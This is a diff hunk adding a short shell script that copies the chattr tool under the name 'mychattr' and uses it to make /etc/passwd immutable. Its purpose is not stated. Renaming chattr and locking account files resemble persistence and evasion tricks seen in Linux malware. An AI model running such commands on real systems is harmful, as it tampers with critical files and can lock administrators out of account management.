@@ -1,0 +1,3 @@
+#!/bin/sh
+cp /usr/bin/chattr /usr/bin/mychattr
+mychattr +i /etc/passwd
